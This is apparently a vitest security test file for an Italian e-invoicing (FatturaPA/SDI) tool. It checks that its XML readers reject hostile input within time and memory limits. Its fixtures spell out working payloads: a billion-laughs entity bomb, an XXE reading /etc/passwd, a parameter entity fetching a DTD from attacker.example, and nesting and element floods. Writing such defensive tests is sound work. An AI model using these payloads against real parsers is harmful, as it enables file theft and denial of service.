// Every way XML enters the agent — classification, the invoice reader (plain and inside a P7M),
// preflight from bytes, the SDI notification reader — refuses entity bombs, external entities and
// pathological shapes quickly and with bounded memory, with a reason a person can read.
import { describe, expect, it } from 'vitest';
import { classifyBytes } from '../../src/core/inspect/classify.ts';
import { readInvoiceDocument } from '../../src/core/inspect/invoice/read-invoice.ts';
import { preflightFatturaPaXml } from '../../src/core/inspect/preflight/preflight-file.ts';
import { readNotification } from '../../src/core/inspect/notifications/read-notification.ts';
import { buildP7m, createTestSigner } from '../helpers/p7m.ts';
import { startCpuClock } from '../helpers/cpu-time.ts';

const FATTURAPA_NS = 'http://ivaservizi.agenziaentrate.gov.it/docs/xsd/fatture/v1.2';
const SDI_NS = 'http://www.fatturapa.gov.it/sdi/messaggi/v1.0';

/** 10^10 "lol"s once expanded (about 30 GB): only a parser that never expands survives it. */
function billionLaughs(rootOpen: string, rootClose: string): string {
  const entities = Array.from({ length: 10 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
  return `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY lol0 "lol">${entities}]>${rootOpen}&lol10;${rootClose}`;
}

const HOSTILE: Record<string, { xml: string; code: RegExp }> = {
  'billion laughs (FatturaPA root)': {
    xml: billionLaughs(`<p:FatturaElettronica xmlns:p="${FATTURAPA_NS}" versione="FPR12">`, '</p:FatturaElettronica>'),
    code: /xml_doctype/,
  },
  'external entity reading /etc/passwd': {
    xml: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><p:FatturaElettronica xmlns:p="${FATTURAPA_NS}" versione="FPR12">&xxe;</p:FatturaElettronica>`,
    code: /xml_doctype/,
  },
  'parameter entity fetching a remote DTD': {
    xml: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">%remote;]><p:FatturaElettronica xmlns:p="${FATTURAPA_NS}" versione="FPR12"/>`,
    code: /xml_doctype/,
  },
  'DOCTYPE hidden behind 200 KB of comment': {
    xml: `<?xml version="1.0"?><!--${'x'.repeat(200_000)}--><!DOCTYPE r [<!ENTITY e "e">]><p:FatturaElettronica xmlns:p="${FATTURAPA_NS}" versione="FPR12">&e;</p:FatturaElettronica>`,
    code: /xml_doctype|xml_malformed/,
  },
  'nesting 100,000 levels deep': {
    xml: `<p:FatturaElettronica xmlns:p="${FATTURAPA_NS}" versione="FPR12">${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</p:FatturaElettronica>`,
    code: /xml_too_deep/,
  },
  '300,000 empty elements': {
    xml: `<p:FatturaElettronica xmlns:p="${FATTURAPA_NS}" versione="FPR12">${'<a/>'.repeat(300_000)}</p:FatturaElettronica>`,
    code: /xml_too_many_elements/,
  },
};

/**
 * Runs `work`, and says how much CPU time it took (a busy machine stretches the wall clock, not this)
 * and how much the heap grew (garbage included: that is the bound).
 */
async function measure<T>(work: () => T | Promise<T>): Promise<{ result: T; ms: number; heapGrowthMb: number }> {
  const heapBefore = process.memoryUsage().heapUsed;
  const cpuMs = startCpuClock();
  const result = await work();
  const ms = cpuMs();
  return { result, ms, heapGrowthMb: (process.memoryUsage().heapUsed - heapBefore) / 1024 / 1024 };
}

// The element limit (200,000) bounds a parsed tree to about 100 MB; a signed file adds its envelope.
const LIMITS = { ms: 1500, heapGrowthMb: 160 };

describe.each(Object.entries(HOSTILE))('hostile XML: %s', (_name, { xml, code }) => {
  const bytes = Buffer.from(xml);

  it('classification refuses it with a reason', async () => {
    const { result, ms, heapGrowthMb } = await measure(() => classifyBytes(bytes, 'IT01234567890_00001.xml'));
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.code).toMatch(code);
      expect(result.reason.length).toBeGreaterThan(10);
    }
    expect(ms).toBeLessThan(LIMITS.ms);
    expect(heapGrowthMb).toBeLessThan(LIMITS.heapGrowthMb);
  });

  it('the invoice reader refuses it, plain and signed, without expanding anything', async () => {
    const signer = await createTestSigner();
    const p7m = await buildP7m(bytes, signer);
    for (const [kind, input] of [
      ['fatturapa', bytes],
      ['p7m', p7m],
    ] as const) {
      const { result, ms, heapGrowthMb } = await measure(() => readInvoiceDocument(input, kind));
      expect(result.invoice, kind).toBeNull();
      expect(result.error?.code, kind).toMatch(code);
      expect(ms, kind).toBeLessThan(LIMITS.ms);
      expect(heapGrowthMb, kind).toBeLessThan(LIMITS.heapGrowthMb);
    }
  });

  it('preflight reports it as not well-formed', async () => {
    const { result, ms } = await measure(() => preflightFatturaPaXml(bytes, { fileName: 'IT01234567890_00001.xml', history: null }));
    expect(result[0]).toMatchObject({ severity: 'error', code: 'not_well_formed' });
    expect(ms).toBeLessThan(LIMITS.ms);
  });

  it('the SDI notification reader refuses it', async () => {
    const notification = Buffer.from(
      xml
        .replaceAll(`p:FatturaElettronica xmlns:p="${FATTURAPA_NS}" versione="FPR12"`, `types:NotificaScarto xmlns:types="${SDI_NS}"`)
        .replaceAll('</p:FatturaElettronica>', '</types:NotificaScarto>'),
    );
    const { result, ms, heapGrowthMb } = await measure(() => {
      try {
        readNotification(notification);
        return null;
      } catch (error) {
        return error as Error & { code?: string };
      }
    });
    expect(result).not.toBeNull();
    expect(String(result?.code)).toMatch(code);
    expect(ms).toBeLessThan(LIMITS.ms);
    expect(heapGrowthMb).toBeLessThan(LIMITS.heapGrowthMb);
  });
});
